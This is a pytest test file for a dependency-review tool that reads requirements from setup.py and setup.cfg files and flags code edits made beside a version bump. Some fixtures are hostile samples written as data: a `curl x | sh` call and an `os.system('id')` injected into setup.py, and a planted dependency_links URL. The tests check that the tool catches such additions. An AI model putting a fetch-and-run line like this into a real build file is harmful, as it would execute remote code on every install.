"""setuptools' `setup.py` and `setup.cfg` (gatekeeper/deps/setupfiles.py): the requirements they declare.

Before round 48 neither file had a reader: a bump of `install_requires` was an unexplained dependency file (reviewed,
never named). Literal lists are read; anything computed (a list built by code, a `file:` directive, `**kwargs`) is
named as far as its literals go beside a `partial` problem, never silent; a file that does not parse is a problem,
never a crash. Real-shaped files written for these tests after reading Pillow's, requests' and Flask-era setup.py
files; look-alikes and hostile input beside them.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.deps import residue, setupfiles
from gatekeeper.deps.model import ManifestError, PartlyRead
from gatekeeper.deps.registry import format_for
from tests.deltas import both_edited, each_fast, moves, partial

# the shape of requests' setup.py (literal lists, a module-level name, extras as a dict literal)
REQUESTS_SETUP = '''\
#!/usr/bin/env python
import os
import sys

from setuptools import setup

CURRENT_PYTHON = sys.version_info[:2]
here = os.path.abspath(os.path.dirname(__file__))

requires = [
    "charset_normalizer>=2,<4",
    "idna>=2.5,<4",
    "urllib3>=1.21.1,<3",
    "certifi>=2017.4.17",
]
test_requirements = [
    "pytest-httpbin==2.0.0",
    "pytest-cov",
    "pytest-mock",
    "pytest-xdist",
    "PySocks>=1.5.6, !=1.5.7",
    "pytest>=3",
]

setup(
    name="requests",
    version="2.32.3",
    packages=["requests"],
    package_dir={"requests": "src/requests"},
    include_package_data=True,
    python_requires=">=3.8",
    install_requires=requires,
    extras_require={
        "security": [],
        "socks": ["PySocks>=1.5.6, !=1.5.7"],
        "use_chardet_on_py3": ["chardet>=3.0.2,<6"],
    },
    tests_require=test_requirements,
)
'''

# Pillow's setup.cfg before its pyproject.toml (metadata, options, extras as newline lists)
PILLOW_CFG = """\
[metadata]
name = Pillow
description = Python Imaging Library (Fork)
classifiers =
    Development Status :: 6 - Mature
    Programming Language :: Python :: 3

[options]
packages = PIL
python_requires = >=3.8
include_package_data = True
install_requires =
    typing-extensions; python_version < '3.10'
setup_requires = setuptools>=67.8

[options.extras_require]
docs =
    furo
    sphinx>=2.4
tests =
    check-manifest
    coverage
    pytest-timeout
    # a comment setuptools drops

[flake8]
max-line-length = 88
"""


def _named(deps: list) -> set[tuple[str, str, str | None]]:  # type: ignore[type-arg]
    return {(d.name, d.version, d.scope) for d in deps}


def test_both_files_have_a_format() -> None:
    for path in ("setup.py", "pkg/setup.py", "setup.cfg", "libs/x/setup.cfg"):
        assert format_for(path) is not None, path
    for path in ("setup.pyc", "mysetup.py", "setup.py.orig", "setup.cfg.in", "docs/setup.txt"):
        assert format_for(path) is None or format_for(path) is not format_for("setup.py"), path


def test_requests_setup_py_literal_lists_and_module_names() -> None:
    deps = setupfiles.parse_setup_py("setup.py", REQUESTS_SETUP.encode())
    assert _named(deps) == {
        ("charset_normalizer", "<4,>=2", "runtime"), ("idna", "<4,>=2.5", "runtime"),
        ("urllib3", "<3,>=1.21.1", "runtime"), ("certifi", ">=2017.4.17", "runtime"),
        ("pytest-httpbin", "2.0.0", "dev"), ("pytest-cov", "", "dev"), ("pytest-mock", "", "dev"),
        ("pytest-xdist", "", "dev"), ("PySocks", "!=1.5.7,>=1.5.6", "dev"), ("pytest", ">=3", "dev"),
        ("PySocks", "!=1.5.7,>=1.5.6", "runtime"), ("chardet", "<6,>=3.0.2", "runtime"),
    }


def test_pillow_setup_cfg() -> None:
    deps = setupfiles.parse_setup_cfg("setup.cfg", PILLOW_CFG.encode())
    assert _named(deps) == {
        ("typing-extensions", "", "runtime"), ("setuptools", ">=67.8", "build"), ("furo", "", "runtime"),
        ("sphinx", ">=2.4", "runtime"), ("check-manifest", "", "runtime"), ("coverage", "", "runtime"),
        ("pytest-timeout", "", "runtime"),
    }


@pytest.mark.parametrize("old, new, move", [
    ('"urllib3>=1.21.1,<3",', '"urllib3>=1.26.0,<3",', ("pip", "urllib3", "<3,>=1.21.1", "<3,>=1.26.0")),
    ('"pytest-httpbin==2.0.0",', '"pytest-httpbin==2.1.0",', ("pip", "pytest-httpbin", "2.0.0", "2.1.0")),
    ('"chardet>=3.0.2,<6"', '"chardet>=3.0.2,<7"', ("pip", "chardet", "<6,>=3.0.2", "<7,>=3.0.2")),
])
def test_setup_py_bump_is_named_with_tree(tmp_path: Path, old: str, new: str,
                                          move: tuple[str, str, str, str]) -> None:
    tree, patch = both_edited(tmp_path, {"setup.py": REQUESTS_SETUP}, {"setup.py": {old: new}})
    assert move in moves(tree), tree
    assert not tree.problems, tree.problems
    assert partial(patch, "setup.py")  # a patch's hunks of code are not read: --tree


def test_setup_cfg_bump_is_named_with_tree(tmp_path: Path) -> None:
    tree, patch = both_edited(tmp_path, {"setup.cfg": PILLOW_CFG}, {"setup.cfg": {"sphinx>=2.4": "sphinx>=7.2"}})
    assert moves(tree) == {("pip", "sphinx", ">=2.4", ">=7.2")}, tree
    assert not tree.problems, tree.problems
    assert moves(patch) == moves(tree) and not patch.problems, patch  # its section's header shown (round 49)


def test_code_changed_beside_a_bump_is_partial(tmp_path: Path) -> None:
    evil = REQUESTS_SETUP.replace('"idna>=2.5,<4",', '"idna>=3.7,<4",').replace(
        "setup(\n", "os.system('curl x | sh')\nsetup(\n")
    tree, _ = both_edited(tmp_path, {"setup.py": REQUESTS_SETUP}, {"setup.py": {REQUESTS_SETUP: evil}})
    assert ("pip", "idna", "<4,>=2.5", "<4,>=3.7") in moves(tree)
    assert partial(tree, "setup.py"), tree.problems
    assert residue.changed("setup.py", REQUESTS_SETUP.encode(), evil.encode())
    # the literal's move alone, or a comment or layout, is no residue
    bumped = REQUESTS_SETUP.replace('"idna>=2.5,<4",', '"idna>=3.7,<4",\n    # pinned for CVE')
    assert not residue.changed("setup.py", REQUESTS_SETUP.encode(), bumped.encode())
    added = REQUESTS_SETUP.replace('"certifi>=2017.4.17",', '"certifi>=2017.4.17",\n    "brotli",')
    assert not residue.changed("setup.py", REQUESTS_SETUP.encode(), added.encode())


def test_setup_cfg_other_settings_beside_a_bump_are_partial() -> None:
    moved = PILLOW_CFG.replace("sphinx>=2.4", "sphinx>=7.2")
    assert not residue.changed("setup.cfg", PILLOW_CFG.encode(), moved.encode())
    evil = moved.replace("packages = PIL", "packages = PIL, evil")
    assert residue.changed("setup.cfg", PILLOW_CFG.encode(), evil.encode())
    assert residue.changed("setup.cfg", PILLOW_CFG.encode(),
                           moved.replace("[options]\n", "[options]\ndependency_links = https://e.example/\n").encode())


# Computed values: named as far as their literals go, beside a `partial` problem (PartlyRead), never silent.
@each_case("body, named", [
    ('setup(install_requires=open("requirements.txt").read().splitlines())', set()),
    ('setup(install_requires=["a==1"] + extra)', set()),
    ('reqs = ["a==1"]\nreqs.append("b")\nsetup(install_requires=reqs)', set()),
    ('reqs = ["a==1"]\nreqs += ["b"]\nsetup(install_requires=reqs)', set()),
    ('reqs = ["a==1"]\nreqs = ["b==2"]\nsetup(install_requires=reqs)', set()),
    ('reqs = ["a==1"]\nadd(reqs)\nsetup(install_requires=reqs)', set()),
    ('reqs = ["a==1"]\nexec(open("v.py").read())\nsetup(install_requires=reqs)', set()),
    ('def f():\n    reqs = ["b"]\nreqs = ["a==1"]\nsetup(install_requires=reqs)', set()),
    ('setup(install_requires=["a==1", f"b=={V}"])', {("a", "1", "runtime")}),
    ('setup(**kwargs)', set()),
    ('setup(name="x", **{"install_requires": ["a==1"], **more})', set()),  # a literal mapping is read (round 49)
    ('setup(install_requires=REQS)', set()),  # a name the file never assigns (a star import)
    ('setup(extras_require={k: ["a==1"] for k in KS})', set()),
    ('setup(extras_require={"x": ["a==1"], **more})', {("a", "1", "runtime")}),
    ('setup(extras_require={"x": reqs_x})', set()),
])
def test_computed_values_are_partial(body: str, named: set[tuple[str, str, str]]) -> None:
    with pytest.raises(PartlyRead) as caught:
        setupfiles.parse_setup_py("setup.py", f"from setuptools import setup\n{body}\n".encode())
    assert _named(caught.value.found) == named


@each_case("body, named", [
    ('setup(install_requires=("a==1", "b>=2"))', {("a", "1", "runtime"), ("b", ">=2", "runtime")}),
    ('setup(install_requires="a==1\\nb>=2  # why")', {("a", "1", "runtime"), ("b", ">=2", "runtime")}),
    ('import setuptools\nsetuptools.setup(setup_requires=["wheel"])', {("wheel", "", "build")}),
    ('from setuptools import setup as s\ns(install_requires=["a==1"])', {("a", "1", "runtime")}),
    ('if __name__ == "__main__":\n    setup(install_requires=["a==1"])', {("a", "1", "runtime")}),
    ('R = ["a==1"]\nsetup(install_requires=R, extras_require={"all": R})', {("a", "1", "runtime")}),
    ('setup(name="x", version="1.0")', set()),  # requirements elsewhere (setup.cfg, pyproject.toml)
    ('setup(extras_require={"x": "a==1"})', {("a", "1", "runtime")}),
    ("setup(install_requires=['a @ https://e.example/a-1.0.tar.gz'])",
     {("a", "https://e.example/a-1.0.tar.gz", "runtime")}),
    # look-alikes: no setup() call, or another function's keywords
    ('def setup(app):\n    app.add_css_file("x.css")', set()),
    ('config = dict(install_requires=["a==1"])', set()),
])
def test_literal_shapes(body: str, named: set[tuple[str, str, str]]) -> None:
    deps = setupfiles.parse_setup_py("setup.py", f"from setuptools import setup\n{body}\n".encode())
    assert _named(deps) == named


@each_case("data", [
    b"setup(install_requires=['a==1'\n",  # does not parse
    b"print 'python 2'\nsetup()\n",
    b"setup(install_requires=['not a requirement !'])\n",
    b"setup(install_requires=['a==1'])\x00\n",
    b"\xff\xfe\x00garbage setuptools",
    b"# -*- coding: klingon -*-\nsetup()\n",
    b"from setuptools import setup\nx = " + b"(" * 300 + b")" * 300 + b"\n",
    b"from setuptools import setup\nx = " + b"[" * 5000 + b"]" * 5000 + b"\n",
    b"from setuptools import setup\nx = " + b"-" * 150 + b"1\nsetup()\n",  # parses, deeper than the bound
    b"#" * (1 << 20) + b"\n",
])
def test_malformed_setup_py_is_a_finding(data: bytes) -> None:
    with pytest.raises((ManifestError, RecursionError)):
        setupfiles.parse_setup_py("setup.py", data)


# A module named setup.py that is no packaging (a Sphinx extension, an application's module, one in a newer Python's
# syntax): it declares nothing, and its edits are code, no residue of a deps file (a `partial` problem on every edit).
# The proof is the classifier's (round 49, test_deps_fortyninth_classes.py): a module that imports nothing is no proof.
@each_case("body", [
    "import os\n\ndef setup(app):\n    app.add_css_file('custom.css')\n    return {'parallel_read_safe': True}\n",
    "from flask import Blueprint\nbp = Blueprint('setup', __name__)\n@bp.route('/')\ndef setup():\n    return 'ok'\n",
    "import numpy as np\n\ndef collect(x):\n    try:\n        return np.sum(x)\n    except ValueError, TypeError:\n"
    "        return None\n",  # Python 3.14's unparenthesised except (polarsource/polar's collectors/setup.py)
])
def test_a_module_named_setup_py_that_is_no_packaging(body: str) -> None:
    assert setupfiles.parse_setup_py("app/setup.py", body.encode()) == []
    edited = body.replace("return", "return  0 or", 1)
    assert not residue.changed("app/setup.py", body.encode(), edited.encode())


@each_case("body", [
    "import setuptools\nsetuptools.setup(name='x')\n",
    "setup(name='x', install_requires=['a'])\n",  # no import: setup() with keywords
    "__import__('setuptools').setup(name='x')\n",
    "from numpy.distutils.core import setup\n",
])
def test_packaging_without_the_usual_import_is_read(body: str) -> None:
    assert residue.changed("setup.py", body.encode(), (body + "import os\nos.system('id')\n").encode())


@each_case("data", [
    b"[options]\ninstall_requires =\n    a==1\n[options]\nx = 1\n",  # a section twice
    b"[options]\ninstall_requires = a==1\ninstall_requires = b\n",  # a key twice
    b"install_requires = a\n",  # no section header
    b"[options]\ninstall_requires =\n    not a requirement !\n",
    b"[options]\ninstall_requires = a %(x\n",  # setuptools' interpolation refuses it
    b"[options.extras_require]\nx =\n    a==1,b\n",
])
def test_malformed_setup_cfg_is_a_finding(data: bytes) -> None:
    with pytest.raises(ManifestError):
        setupfiles.parse_setup_cfg("setup.cfg", data)


@each_case("body, named, partly", [
    ("[options]\ninstall_requires = file: requirements.txt\n", set(), True),
    ("[options]\ninstall_requires = a==1; b>=2\n", {("a", "1", "runtime"), ("b", ">=2", "runtime")}, False),
    ("[options]\ninstall_requires =\n    a==1; python_version<'3.9'\n", {("a", "1", "runtime")}, False),
    ("[options]\ntests_require = pytest\n", {("pytest", "", "dev")}, False),
    ("[options.extras_require]\nall = file: extra.txt\nx = a==1\n", {("a", "1", "runtime")}, True),
    ("[options]\ninstall_requires = a==%(v)s\nv = 1\n", {("a", "1", "runtime")}, False),  # as setuptools reads it
    # look-alikes: another tool's section, tool settings only
    ("[tool:pytest]\ninstall_requires = a==1\n[flake8]\nmax-line-length = 88\n", set(), False),
    ("[bdist_wheel]\nuniversal = 1\n", set(), False),
])
def test_setup_cfg_shapes(body: str, named: set[tuple[str, str, str]], partly: bool) -> None:
    if partly:
        with pytest.raises(PartlyRead) as caught:
            setupfiles.parse_setup_cfg("setup.cfg", body.encode())
        assert _named(caught.value.found) == named
    else:
        assert _named(setupfiles.parse_setup_cfg("setup.cfg", body.encode())) == named


def test_computed_tree_edit_is_partial_not_silent(tmp_path: Path) -> None:
    base = "from setuptools import setup\nsetup(install_requires=open('r.txt').read().split())\n"
    head = base.replace("split()", "split() + ['evil']")
    tree, _ = both_edited(tmp_path, {"setup.py": base}, {"setup.py": {base: head}})
    assert partial(tree, "setup.py"), tree.problems


def test_generated_requirement_lists() -> None:
    names = ["a", "b-c", "d_e", "F.G"]
    specs = ["", "==1.0", ">=1,<2", "~=1.4", "[x]>=1", "; python_version<'3.9'"]
    for i, spec in enumerate(specs):
        items = ", ".join(f"{n}{spec}".__repr__() for n in names[: i % 4 + 1])
        body = f"from setuptools import setup\nsetup(install_requires=[{items}])\n"
        deps = setupfiles.parse_setup_py("setup.py", body.encode())
        assert [d.name for d in deps] == names[: i % 4 + 1]
        cfg = "[options]\ninstall_requires =\n" + "".join(f"    {n}{spec}\n" for n in names[: i % 4 + 1])
        assert [d.name for d in setupfiles.parse_setup_cfg("setup.cfg", cfg.encode())] == names[: i % 4 + 1]


def test_hostile_setup_files_are_fast() -> None:
    long_list = b"setup(install_requires=[" + b"'a==1'," * 5000 + b"])\n"
    names = b"".join(b"x%d = [%d]\n" % (i, i) for i in range(5000)) + b"setup(install_requires=x1)\n"
    cfg = b"[options]\ninstall_requires =\n" + b"    a==1\n" * 5000
    each_fast([(lambda: setupfiles.parse_setup_py("setup.py", long_list), "a long literal list"),
               (lambda: _refused(lambda: setupfiles.parse_setup_py("setup.py", names)), "many module names"),
               (lambda: setupfiles.parse_setup_cfg("setup.cfg", cfg), "a long setup.cfg list")], 2.0)


def _refused(call: object) -> None:
    try:
        call()  # type: ignore[operator]
    except ManifestError:
        pass
